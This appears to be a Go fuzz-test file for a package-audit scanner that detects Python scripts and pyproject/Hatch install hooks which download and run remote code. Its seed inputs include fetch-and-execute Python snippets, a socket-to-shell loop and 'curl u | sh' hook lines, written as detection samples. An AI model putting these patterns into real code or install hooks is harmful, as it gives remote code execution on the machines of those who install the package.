package audit

import (
	"strings"
	"testing"
)

// FuzzScanPyShellAnswer: no Python text, in the script or in a module it
// imports, stops the readers of a server's answer run in a shell and of
// the files a script writes (with items, decoder wrappers, accessor
// chains, argument lists, mkstemp descriptors, bare formattings, a
// shell's stdin pipe and the loops around it, functions of the script or
// the module that run a parameter), and every finding's line is inside
// the script.
func FuzzScanPyShellAnswer(f *testing.F) {
	for _, s := range []string{
		"import os, urllib.request\nos.system(urllib.request.urlopen(u).read().decode())\n",
		"import subprocess, requests\nbody = requests.get(u).text\nsubprocess.run(['bash', '-c', body])\n",
		"with urlopen(u) as r, open(p, 'wb') as f:\n    subprocess.run(['sh'], input=r.read())\n",
		"fd, path = tempfile.mkstemp()\nos.write(fd, urlopen(u).read())\nsubprocess.Popen([path], start_new_session=True)\n",
		"os.execl('/bin/sh', 'sh', '-c', json.loads(b64decode(requests.get(u).content))['x'])\n",
		"body = requests.get(u).text\nwith subprocess.Popen(['bash', '-s'], stdin=subprocess.PIPE) as p:\n    p.communicate(input=body)\n",
		"p = subprocess.Popen('sh', shell=True, stdin=PIPE)\nwhile True:\n    p.stdin.write(s.recv(9) + b'\\n')\n",
		"subprocess.Popen(['sh'], stdin=PIPE).communicate(urlopen(u).read())\n", "os.system(f\"{requests.get(u).text!s}\")\n",
		"os.system('%s' % (body,))\n", "os.system('{c}'.format(c=body))\n", "os.system(f'''{body}''')\n", "p.communicate(", "f\"{", "'%s' %", "'{}'.format(",
		"with (urlopen(u) as r:\n", "os.system(", "subprocess.run([", "x = str(str(str(", "with a as b, c as :", "Path(d).open('wb'", "getattr(subprocess, 'Po' + 'pen')(",
		strings.Repeat("def a():\n    return a\n", 60) + "os.system(a())",
		strings.Repeat("(", 200) + "urlopen(u)",
	} {
		f.Add(s, "import urllib.request\ndef get(n):\n    return urllib.request.urlopen(n).read()\n")
	}
	// a module function that runs its parameter, called with what a socket sends
	for _, p := range [][2]string{
		{"import socket\nfrom . import m\ns = socket.create_connection(a)\nfor line in s.makefile():\n    m.dispatch(line)\n", "import subprocess\ndef dispatch(command):\n    return subprocess.run(command, shell=True)\n"},
		{"from .m import run\nwhile True:\n    run(cmd=requests.get(u).text)\n", "import os\ndef _sh(c):\n    os.system(c)\ndef run(*, cmd, /, **kw):\n    _sh(cmd)\n"},
		{"class A:\n    def x(self, c):\n        os.system(c)\n    def y(self, s):\n        self.x(s.recv(9))\n        self.y(*s)\n", "def dispatch(self"},
		{"m.dispatch(urlopen(u).read())\ndef dispatch(", "def dispatch(a, b=(1, 2), *c):\n    subprocess.run(['sh', '-c', b])\n"},
	} {
		f.Add(p[0], p[1])
	}
	f.Fuzz(func(t *testing.T, code, mod string) {
		sc := scanCtx(code)
		sc.linked = []linkedFile{{rel: "pkg/m.py", text: mod}, {rel: "pkg/setup.py", text: code}}
		scanPyShellAnswer(sc, "pkg/setup.py", code)
		scanPyDropper(sc, "pkg/setup.py", code)
		fuzzLinesInFile(t, sc, code)
	})
}

// FuzzScanPyprojectHooks: no pyproject.toml or hatch.toml text stops the
// reader of PDM's hook scripts and Hatch's install commands (TOML of any
// shape, composites naming each other, argv lists), and every finding's
// line is inside the file.
func FuzzScanPyprojectHooks(f *testing.F) {
	for _, s := range []string{
		"[tool.pdm.scripts]\na = {composite = [\"b\", \"a\"]}\nb = {shell = \"curl -s u | sh\"}\npost_install = {composite = [\"a\"]}\n",
		"[tool.pdm.scripts]\npre_build = {cmd = [\"sh\", \"-c\", \"curl u | sh\"]}\n",
		"[tool.hatch.envs.default]\npost-install-commands = [\"wget -qO- u | bash\", 3]\n",
		"[envs.x]\npre-install-commands = \"curl u | sh\"\n",
		"[tool.pdm.scripts]\npost_install = 1\n", "[tool.pdm]\nscripts = 2\n", "[tool.hatch]\nenvs = []\n", "pdm = \"", "install-commands =",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, rel := range []string{"pyproject.toml", "pkg/hatch.toml"} {
			sc := scanCtx(text)
			scanPyprojectHooks(sc, rel, text)
			fuzzLinesInFile(t, sc, text)
		}
	})
}
